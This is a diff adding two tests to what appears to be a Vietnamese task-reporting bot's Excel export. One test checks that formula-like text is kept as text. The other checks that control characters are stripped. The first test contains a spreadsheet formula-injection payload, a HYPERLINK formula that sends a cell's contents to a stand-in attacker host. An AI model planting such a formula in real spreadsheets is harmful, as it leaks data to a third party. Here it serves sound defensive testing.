@@ -24,6 +24,7 @@ from bot.exporting import (
 from bot.models import Report, Task, Unit
 from bot.status import STATUS_ORDER, Status, classify
 from bot.texts import TEXTS
+from tests.bot.builders import add_official, add_task, add_unit
 
 
 async def export(ctx: AppContext, unit_id: int | None = None) -> Workbook:
@@ -183,3 +184,58 @@ async def test_empty_database_gives_a_report_with_zero_totals(ctx: AppContext) -
     assert total_row[3:9] == (0, 0, 0, 0, 0, 0)
     assert total_row[9:] == (None, None, None)
     assert workbook[OVERDUE_SHEET].max_row == 1
+
+
+async def test_text_that_looks_like_a_formula_is_written_as_text(ctx: AppContext) -> None:
+    hostile_title = '=HYPERLINK("http://attacker.example/?"&A2,"Bấm vào đây")'
+    async with ctx.db.session() as session:
+        unit = await add_unit(session, ctx, "SO-TC")
+        official = await add_official(session, ctx, "CB-01", unit, name="@Nguyễn Văn A")
+        task = await add_task(session, ctx, "NV-01", unit)
+        task.title = hostile_title
+        task.source_document = "+84 912 345 678"
+        session.add(
+            Report(
+                task=task,
+                official=official,
+                progress=10,
+                note="-1+2 đã gửi dự thảo",
+                channel="telegram",
+                created_at=ctx.now(),
+            )
+        )
+
+    sheet = (await export(ctx))[TASKS_SHEET]
+    row = {header: cell for (header, _), cell in zip(TASK_HEADERS, sheet[2], strict=True)}
+    expected = {
+        "Tên nhiệm vụ": hostile_title,
+        "Văn bản giao": "+84 912 345 678",
+        "Nội dung báo cáo gần nhất": "-1+2 đã gửi dự thảo",
+        "Người báo cáo": "@Nguyễn Văn A",
+    }
+    for header, text in expected.items():
+        assert row[header].value == text
+        assert row[header].data_type == "s", header
+
+
+async def test_a_stored_control_character_does_not_break_the_export(ctx: AppContext) -> None:
+    async with ctx.db.session() as session:
+        unit = await add_unit(session, ctx, "SO-TC")
+        official = await add_official(session, ctx, "CB-01", unit)
+        task = await add_task(session, ctx, "NV-01", unit)
+        task.title = "Dự thảo\x0b nghị quyết\x1f"
+        session.add(
+            Report(
+                task=task,
+                official=official,
+                progress=10,
+                note="Đã\x01 gửi\r\nSở\tTư pháp",
+                channel="telegram",
+                created_at=ctx.now(),
+            )
+        )
+
+    sheet = (await export(ctx))[TASKS_SHEET]
+    row = {header: cell.value for (header, _), cell in zip(TASK_HEADERS, sheet[2], strict=True)}
+    assert row["Tên nhiệm vụ"] == "Dự thảo nghị quyết"
+    assert row["Nội dung báo cáo gần nhất"] == "Đã gửi\nSở\tTư pháp"
